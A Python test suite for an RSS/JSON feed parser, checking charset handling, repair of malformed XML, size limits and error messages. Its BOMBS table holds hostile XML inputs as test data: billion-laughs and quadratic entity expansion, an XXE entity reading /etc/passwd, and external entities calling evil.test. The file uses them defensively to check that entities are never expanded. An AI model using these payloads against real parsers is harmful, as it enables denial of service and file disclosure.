"""Feeds that are broken, wrongly declared, hostile or huge: what can be read is, the rest is told, and nothing takes long."""

from __future__ import annotations

import json
import pickle
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tadoru.errors import Message
from tadoru.i18n.translation import translator
from tadoru.model.event import ParsedSource
from tadoru.parse.sources import feed_xml
from tadoru.parse.sources.feed import FeedSettings, read_feed
from tests.support.properties import examples

URL = "https://town.test/feed"
WORDS = "夏祭りと花火大会のおしらせ、ぜひおいでください"


def read(body: str | bytes, content_type: str | None = None) -> ParsedSource:
    return read_feed(body.encode() if isinstance(body, str) else body, content_type, URL, FeedSettings(limit=50_000))


def rss(inner: str, declared: str = "UTF-8", doctype: str = "") -> str:
    return f'<?xml version="1.0" encoding="{declared}"?>{doctype}<rss version="2.0"><channel>{inner}</channel></rss>'


def item(title: str) -> str:
    return f"<item><title>{title}</title></item>"


def titles(reading: ParsedSource) -> list[str | None]:
    return [event.title for event in reading.events]


@pytest.mark.parametrize(
    "body", ["", "words", "{", '{"items": 1}', "<rss><channel>" + "<item><title>x</item>", "<html></html>", rss("<a>" * 300)]
)
def test_what_is_wrong_with_a_feed_can_be_translated_also_in_another_process(body: str) -> None:
    found = pickle.loads(pickle.dumps(read(body)))
    assert found.problems
    for problem in found.problems:
        assert isinstance(problem.reason, Message)
        assert translator("ja").text(problem.reason) != problem.reason


CHARSETS = {
    "utf-8": ("utf-8", "UTF-8", "application/rss+xml"),
    "utf-8 with a mark": ("utf-8-sig", "UTF-8", None),
    "utf-16": ("utf-16", "UTF-16", None),
    "shift_jis, declared in the document": ("shift_jis", "Shift_JIS", "application/xml"),
    "shift_jis, declared by the server": ("shift_jis", "UTF-8", "text/xml; charset=Shift_JIS"),
    "euc-jp, declared in the document": ("euc_jp", "EUC-JP", None),
    "shift_jis, called utf-8": ("shift_jis", "UTF-8", "text/xml"),
    "euc-jp, called utf-8": ("euc_jp", "UTF-8", "text/xml; charset=utf-8"),
    "euc-jp, called shift_jis": ("euc_jp", "Shift_JIS", None),
    "shift_jis, called euc-jp": ("shift_jis", "EUC-JP", None),
    "shift_jis, called latin-1 by the server": ("shift_jis", "Shift_JIS", "text/xml; charset=ISO-8859-1"),
    "euc-jp, called latin-1 everywhere": ("euc_jp", "ISO-8859-1", "text/xml; charset=ISO-8859-1"),
    "utf-8, called latin-1 by the server": ("utf-8", "UTF-8", "text/xml; charset=iso-8859-1"),
    "utf-8, called ascii by the server": ("utf-8", "UTF-8", "text/xml; charset=us-ascii"),
    "utf-8, called shift_jis": ("utf-8", "Shift_JIS", "text/html"),
    "a charset nobody knows": ("utf-8", "x-own", "text/plain; charset=x-own"),
}


@pytest.mark.parametrize("codec, declared, content_type", CHARSETS.values(), ids=CHARSETS.keys())
def test_a_feed_is_read_in_the_charset_it_is_in(codec: str, declared: str, content_type: str | None) -> None:
    reading = read(rss(item(WORDS), declared).encode(codec), content_type)
    assert (titles(reading), reading.problems) == ([WORDS], ())


def test_a_charset_that_fits_is_believed() -> None:
    body = rss(item("Café à Paris, déjà vu"), "ISO-8859-1").encode("latin-1")
    assert titles(read(body, "text/xml")) == ["Café à Paris, déjà vu"]


def test_a_feed_in_json_is_read_in_the_charset_it_is_in() -> None:
    body = json.dumps({"items": [{"title": WORDS}]}, ensure_ascii=False).encode()
    assert titles(read(body, "application/json; charset=iso-8859-1")) == [WORDS]


MENDED = {
    "a bare ampersand": (item("Fish & chips"), "Fish & chips"),
    "an ampersand in an address": ("<item><title>x</title><link>https://a.test/?a=1&b=2</link></item>", "x"),
    "an entity of html": (item("Caf&eacute;&nbsp;&hellip;"), "Café\xa0…"),
    "an entity nobody knows": (item("a &nonsense; b"), "a &nonsense; b"),
    "a control character": (item("a\x0bb\x00c"), "abc"),
    "a number that is no character": (item("a&#x1F;&#xFFFF;b"), "ab"),
    "an ampersand in cdata": (item("<![CDATA[a & b &amp;amp; c]]>"), "a & b &amp; c"),
    "a prefix that nobody declared": ("<item><title>x</title><foo:bar>y</foo:bar></item>", "x"),
}


@pytest.mark.parametrize("inner, title", MENDED.values(), ids=MENDED.keys())
def test_common_faults_of_feeds_are_mended_without_a_word(inner: str, title: str) -> None:
    reading = read(rss(inner))
    assert (titles(reading), reading.problems) == ([title], ())


@pytest.mark.parametrize("before", ["\n\n ", "\ufeff", "<br />\n", "Warning: something in line 1\n"])
def test_what_stands_before_the_declaration_is_passed_over(before: str) -> None:
    assert titles(read(before + rss(item("a")))) == ["a"]


BROKEN = {
    "an item with crossed tags": (item("a") + "<item><title>b</titel></item>" + item("c"), ["a", "c"]),
    "an item that does not end": (item("a") + "<item><title>b</title>" + item("c"), ["a", "b", "c"]),
    "a sign that opens nothing": (item("a") + item("1 <2") + item("c"), ["a", "c"]),
    "several": ((item("ok") + "<item><title>b</item>") * 5, ["ok"] * 5),
}


@pytest.mark.parametrize("inner, expected", BROKEN.values(), ids=BROKEN.keys())
def test_a_broken_item_is_told_and_the_others_are_read(inner: str, expected: list[str]) -> None:
    reading = read(rss(inner))
    assert [title for title in titles(reading) if title in expected] == expected
    assert reading.problems
    assert all(one.reason.startswith("Broken XML") for one in reading.problems)


def test_a_feed_that_was_cut_off_is_read_as_far_as_it_goes() -> None:
    whole = rss(item("a") + item("b") + item("c"))
    reading = read(whole[: whole.index("c</title>")])
    assert titles(reading) == ["a", "b"]
    assert [one.position for one in reading.problems] == ["item 3"]


def test_items_after_a_broken_one_are_counted_on() -> None:
    reading = read(rss(item("a") + "<item><x>b</item>" + item("c")))
    assert [event.position for event in reading.events] == ["item 1", "item 2", "item 3"]
    assert [one.position for one in reading.problems] == ["item 2"]


@pytest.mark.parametrize(
    "broken",
    [
        "<title>b<link>https://town.test/b</link><description>8月1日</description>",
        "<title>b</title><link>https://town.test/b</link><description><p>8月1日<br></description>",
        "<title>b</title><description><![CDATA[8月1日<br>]]><link>https://town.test/b</link>",
        "<title>b</title><link>/b</link><description><![CDATA[8月1日</description>",
    ],
)
def test_an_item_with_unclosed_tags_is_read(broken: str) -> None:
    event = read(rss(item("a") + f"<item>{broken}</item>" + item("c"))).events[1]
    assert (event.title, event.url, event.start) == ("b", "https://town.test/b", "8月1日")


@pytest.mark.parametrize(
    "title, read_as",
    [
        ("İİİstanbul", "İİİstanbul"),
        ("a</titles>b", "ab"),
        ("<![CDATA[İstanbul]]>", "İstanbul"),
        ("<![CDATA[İstanbul", "İstanbul"),
    ],
)
def test_a_repaired_item_keeps_the_end_of_its_title(title: str, read_as: str) -> None:
    assert titles(read(rss(f"<item><title>{title}</title><p></item>"))) == [read_as]


@pytest.mark.parametrize(
    "body, reason",
    [
        (b"", "The feed is empty."),
        (b"  \n", "The feed is empty."),
        (b"<html><body>Not here</body></html>", "This is not a feed: its first element is <html>."),
        (b"[1, 2]", "This is not a JSON Feed: it has no list of items, or is too large."),
        (b'{"items": 3}', "This is not a JSON Feed: it has no list of items, or is too large."),
        (b'{"items": [', "This is not valid JSON (JSONDecodeError)."),
        (b"{" * 100_000, "This is not valid JSON (JSONDecodeError)."),
        (b"[" * 100_000, "This is not valid JSON (RecursionError)."),
    ],
)
def test_what_is_no_feed_says_so(body: bytes, reason: str) -> None:
    reading = read(body)
    assert reading.events == ()
    assert [one.reason for one in reading.problems] == [reason]


LAUGHS = "<!DOCTYPE lolz [" + '<!ENTITY lol0 "lol">' + "".join(
    f'<!ENTITY lol{number} "{f"&lol{number - 1};" * 10}">' for number in range(1, 10)
) + "]>"  # fmt: skip
BOMBS = {
    "a billion laughs": rss(item("&lol9;"), doctype=LAUGHS),
    "quadratic blow-up": rss(item("&x;" * 50_000), doctype=f'<!DOCTYPE x [<!ENTITY x "{"A" * 50_000}">]>'),
    "a file of the machine": rss(item("&x;"), doctype='<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "an address elsewhere": rss(item("&x;"), doctype='<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.test/"> %e;]>'),
    "a document type elsewhere": rss(item("&x;"), doctype='<!DOCTYPE rss SYSTEM "http://evil.test/rss.dtd">'),
    "laughs behind a comment": rss(item("&lol9;"), doctype=f"<!-- x -->{LAUGHS}"),
    "laughs behind another type": rss(item("&lol9;"), doctype=f"<!DOCTYPE rss>{LAUGHS}"),
    "a document type with a trick": rss(item("&x;"), doctype='<!DOCTYPE x [<!ENTITY a "]>"><!ENTITY x "boom">]>'),
}


@pytest.mark.parametrize("body", BOMBS.values(), ids=BOMBS.keys())
def test_entities_are_never_expanded(body: str) -> None:
    reading = read(body)
    shown = " ".join(title or "" for title in titles(reading))
    assert len(shown) <= len(body)
    assert not any(word in shown for word in ("lollol", "AAAA", "root:", "boom"))


def test_an_entity_that_is_declared_where_it_can_not_be_cut_out_ends_the_reading() -> None:
    reading = read(BOMBS["laughs behind another type"])
    assert reading.events == ()
    assert [one.reason for one in reading.problems] == [
        "The XML declares entities, which a feed has no use for: the rest is not read."
    ]


HUGE = {
    "nesting": (f"<item>{'<a>' * 100_000}</item>", "Elements are nested more than 64 deep: the rest is not read."),
    "elements": (f"<item>{'<a/>' * 300_000}</item>", "There are more than 200000 elements: the rest is not read."),
    "broken items": ("<item><title>a</b></item>" * 3_000, "Too much of the XML is broken: the rest is not read."),
}


@pytest.mark.parametrize("inner, reason", HUGE.values(), ids=HUGE.keys())
def test_what_grows_without_end_is_ended(inner: str, reason: str) -> None:
    reading = read(rss(item("first") + inner))
    assert titles(reading)[0] == "first"
    assert reading.problems[-1].reason == reason


def test_a_feed_of_ten_megabytes_is_read() -> None:
    one = f"<item><title>a</title><description>{'x' * 3_000}8月1日</description></item>"
    body = rss(one * (10_000_000 // len(one.encode())))
    reading = read(body)
    assert reading.problems == ()
    assert len(reading.events) == 10_000_000 // len(one.encode())
    assert reading.events[-1].start == "8月1日"


def test_a_feed_larger_than_allowed_is_read_as_far_as_it_goes(monkeypatch: pytest.MonkeyPatch) -> None:
    body = rss(item("a") + item("b"))
    monkeypatch.setattr(feed_xml, "MAX_BYTES", body.index("b</title>"))
    reading = read(body)
    assert titles(reading) == ["a"]
    assert reading.problems[0].reason.startswith("The feed is larger than")


def test_the_text_of_one_item_is_cut_where_it_grows_too_long(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feed_xml, "MOST_TEXT", 10)
    reading = read(rss(f"<item><title>a</title>{'<description>0123456789</description>' * 5}</item>{item('b')}"))
    assert titles(reading) == ["a", "b"]


WHOLE = """<?xml version="1.0"?><rss version="2.0" xmlns:ev="http://purl.org/rss/1.0/modules/event/" xml:base="/x/"><channel>
<ttl>60</ttl><item><title>Caf&eacute; &amp; talk</title><link>a</link><ev:startdate>2026-08-01</ev:startdate></item>
<item><title><![CDATA[<b>x</b>]]></title><guid>https://a.test/</guid><description>令和8年8月1日(土) 10時</description></item>
<entry><content type="xhtml"><div>a<b>c</b></div></content><link href="/x"/></entry></channel></rss>""".encode()


@given(st.binary(max_size=300))
def test_any_bytes_are_read_without_an_exception(body: bytes) -> None:
    read(body)
    read(b"<rss><channel><item>" + body)
    read(b'{"items": [{"title": "' + body)


@examples(300)
@given(st.data())
def test_a_feed_with_parts_cut_out_doubled_or_overwritten_is_read_without_an_exception(data: st.DataObject) -> None:
    body = WHOLE
    for _ in range(data.draw(st.integers(1, 4))):
        start = data.draw(st.integers(0, len(body)))
        end = data.draw(st.integers(start, min(len(body), start + 40)))
        signs = [b"<", b">", b"&", b"&#", b"]]>", b"<![CDATA[", b"<!DOCTYPE x [", b"xmlns:a='", b":", b'"', body[start:end] * 2]
        body = body[:start] + data.draw(st.one_of(st.binary(max_size=8), st.sampled_from(signs))) + body[end:]
    read(body)


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
        lambda inner: (
            st.lists(inner, max_size=4)
            | st.dictionaries(
                st.sampled_from("id title url content_html tags authors author attachments image name".split()), inner
            )
        ),
        max_leaves=12,
    )
)
def test_any_values_in_a_json_feed_are_read_without_an_exception(value: object) -> None:
    read(json.dumps({"items": [value, value], "next_url": value}))


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), max_size=40), max_size=5)
)
def test_a_description_comes_back_as_it_was_written(texts: list[str]) -> None:
    inner = "".join(f"<item><description>{escaped(text)}</description></item>" for text in texts)
    reading = read(rss(inner), "application/xml; charset=utf-8")
    assert reading.problems == ()
    assert [event.description for event in reading.events] == [text.strip() or None for text in texts]


def test_a_text_of_forbidden_characters_is_repaired_in_little_memory() -> None:
    body = "\x01" * 250_000
    tracemalloc.start()
    try:
        found = feed_xml.repair_xml(body)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found == ""
    assert peak < 1_500_000


@pytest.mark.parametrize("text, repaired", [("&", "&amp;"), ("a&uuml;b", "aüb"), ("&amp;", "&amp;")])
def test_every_sign_of_a_long_text_is_repaired(text: str, repaired: str) -> None:
    assert feed_xml.repair_xml(text * 60_000) == repaired * 60_000


def test_a_tag_with_attributes_without_end_ends_the_reading() -> None:
    attributes = "".join(f" a{number}='>'" for number in range(200_000))
    tracemalloc.start()
    try:
        found = read(rss(f"{item('Fair')}<x{attributes}/>{item('Feast')}"))
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert titles(found) == ["Fair"]
    assert [str(problem.reason) for problem in found.problems] == ["A tag has more than 1,048,576 bytes: the rest is not read."]
    assert most < 6 * len(attributes)
